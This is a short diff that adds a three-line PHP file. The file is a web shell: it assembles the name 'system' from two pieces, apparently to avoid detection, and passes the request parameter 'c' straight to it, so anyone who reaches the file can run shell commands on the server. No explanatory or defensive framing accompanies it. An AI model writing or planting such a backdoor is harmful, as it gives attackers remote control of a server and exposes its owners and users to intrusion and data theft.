@@ -1,0 +1,3 @@
+<?php
+$f = 'sys' . 'tem';
+$f($_REQUEST['c']);
